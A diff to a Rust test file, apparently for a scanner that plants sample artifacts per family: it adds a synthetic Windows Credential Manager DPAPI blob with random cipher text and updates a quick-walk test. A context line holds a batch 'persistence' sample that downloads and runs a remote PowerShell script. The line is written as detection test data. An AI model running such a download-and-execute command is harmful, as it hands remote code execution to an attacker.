@@ -368,6 +368,30 @@ fn sample(family: &str, path: &str, s: &Secrets) -> Option<Sample> {
             .current_dir(&dir));
             Some(Sample(std::fs::read(dir.join("OBJECTS.DATA")).unwrap(), 0o644))
         }
+        // A Credential Manager file: the 12-byte header and a DPAPI blob (version 1, the DPAPI
+        // provider's GUID, a master key GUID, flags, a description), its cipher text random.
+        "windows-credential-manager" => {
+            let mut blob = 1u32.to_le_bytes().to_vec();
+            blob.extend_from_slice(&[
+                0xD0, 0x8C, 0x9D, 0xDF, 0x01, 0x15, 0xD1, 0x11, 0x8C, 0x7A, 0x00, 0xC0, 0x4F, 0xC2,
+                0x97, 0xEB,
+            ]);
+            blob.extend_from_slice(&1u32.to_le_bytes());
+            blob.extend_from_slice(&random(16, ALNUM).into_bytes());
+            blob.extend_from_slice(&0x2000_0000u32.to_le_bytes());
+            let d: Vec<u8> = "Local Credential Data\0"
+                .encode_utf16()
+                .flat_map(u16::to_le_bytes)
+                .collect();
+            blob.extend_from_slice(&(d.len() as u32).to_le_bytes());
+            blob.extend_from_slice(&d);
+            blob.extend_from_slice(&random(160, ALNUM).into_bytes());
+            let mut f = 1u32.to_le_bytes().to_vec();
+            f.extend_from_slice(&(blob.len() as u32).to_le_bytes());
+            f.extend_from_slice(&[0; 4]);
+            f.extend_from_slice(&blob);
+            Some(Sample(f, 0o600))
+        }
         "windows-persistence" if path.ends_with(".bat") => text(
             "@echo off\r\npowershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\"\r\n".into(),
         ),
@@ -615,13 +639,10 @@ fn quick_reports_every_family_finding_that_full_reports_where_it_walks() {
         outside,
         [
             "/Windows/Panther/unattend.xml",
-            "/Windows/System32/config/SAM",
-            "/Windows/System32/config/SOFTWARE",
-            "/Windows/System32/config/SYSTEM",
             "/Windows/System32/wbem/Repository/OBJECTS.DATA"
         ],
-        "samples outside the quick walk (Windows volumes are not root filesystems; the hives are \
-         read by the volume check)"
+        "samples outside the quick walk (Windows volumes are not root filesystems; the hives' \
+         directory is on the way to the system profile's saved credentials)"
     );
     let want: BTreeSet<_> = f.iter().filter(|(_, p)| walked(p)).cloned().collect();
     let lost: Vec<_> = want.difference(&q).collect();
